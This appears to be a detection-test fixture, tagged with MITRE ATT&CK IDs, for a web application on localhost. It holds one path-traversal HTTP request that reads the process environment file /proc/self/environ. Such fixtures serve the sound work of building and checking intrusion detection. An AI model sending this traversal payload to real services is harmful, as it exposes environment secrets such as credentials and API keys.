# title: a web application reads its own environment out
# attack: T1190 T1003.007
# workload: webapp
# through: http
# shows: file read /environ by python3
GET http://127.0.0.1:8000/file?name=../proc/self/environ
